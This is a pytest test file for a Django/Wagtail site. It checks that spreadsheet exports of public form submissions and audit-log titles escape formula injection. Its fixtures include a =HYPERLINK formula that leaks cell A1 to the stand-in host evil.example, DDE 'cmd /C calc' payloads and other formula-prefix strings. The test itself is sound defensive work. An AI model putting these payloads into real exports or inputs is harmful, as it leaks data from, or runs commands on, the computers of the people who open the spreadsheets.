"""Every spreadsheet export is safe to open: what the public typed never runs as a formula.

Driven through the real admin views with a logged-in editor: the enquiry form's submissions (CSV and XLSX), and
the site history report, which lists board posts by the title their author typed. The board posts' and the
registrations' listing exports are tested in tests/board/test_admin_listing.py and tests/events/test_admin.py.
"""

import csv
import io

import openpyxl
import pytest
from django.core.management import call_command
from wagtail.contrib.forms.models import FormSubmission

from board.models import BoardPost
from board.services import reject
from security.admin_groups import EDITORS, MODERATORS
from security.spreadsheets import spreadsheet_safe
from tests.factories import logged_in_client, make_board, make_post

HOSTILE = {
    "your_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "work_email_address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "school_or_setting": "+cmd|' /C calc'!A0",
    "what_is_your_enquiry_about": "-1+1",
    "your_message": "\t=1+1",
}
CARRIAGE_RETURN = "\r=2+2"


def _rows(response, export_format):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if export_format == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
    return [["" if value is None else value for value in row] for row in sheet.iter_rows(values_only=True)]


def _newlines(text):
    """XML (so XLSX) reads a carriage return back as a line feed."""
    return text.replace("\r", "\n")


@pytest.fixture
def contact(demo_home):
    page = demo_home.get_children().get(slug="contact").specific
    FormSubmission.objects.create(page=page, form_data=HOSTILE)
    FormSubmission.objects.create(page=page, form_data={**HOSTILE, "your_message": CARRIAGE_RETURN})
    return page


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_enquiry_submissions_export_never_holds_a_formula(client, contact, export_format):
    call_command("ensure_admin_groups", stdout=io.StringIO())
    editor = logged_in_client(client, EDITORS)
    response = editor.get(f"/admin/forms/submissions/{contact.pk}/", {"export": export_format})
    assert response.status_code == 200
    rows = _rows(response, export_format)
    cells = [_newlines(cell) for row in rows[1:] for cell in row if isinstance(cell, str)]
    for value in [*HOSTILE.values(), CARRIAGE_RETURN]:
        assert _newlines("'" + value) in cells, value  # kept whole, as text
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\n"))]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_site_history_export_shows_a_board_post_title_as_text(client, demo_home, export_format):
    """The audit log names a post by the title its author typed; the report's export must not run it."""
    call_command("ensure_admin_groups", stdout=io.StringIO())
    board = make_board(demo_home)
    post = make_post(board, status=BoardPost.Status.PENDING, title='=HYPERLINK("http://evil.example","Open")')
    moderator = logged_in_client(client, EDITORS, MODERATORS)
    reject(post, None, "Spam")
    response = moderator.get("/admin/reports/site-history/", {"export": export_format})
    assert response.status_code == 200
    labels = [row[1] for row in _rows(response, export_format)[1:]]
    assert "'" + post.title in labels
    assert post.title not in labels


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\uff1d1+1", "\x00=1"],
)
def test_spreadsheet_safe_prefixes_whatever_starts_like_a_formula(value):
    assert spreadsheet_safe(value) == "'" + value
    assert spreadsheet_safe(spreadsheet_safe(value)) == "'" + value  # applying it twice changes nothing more


@pytest.mark.parametrize("value", ["Whitley Primary", "a=b", "", 3, None, 2.5])
def test_spreadsheet_safe_leaves_ordinary_values_alone(value):
    assert spreadsheet_safe(value) == value
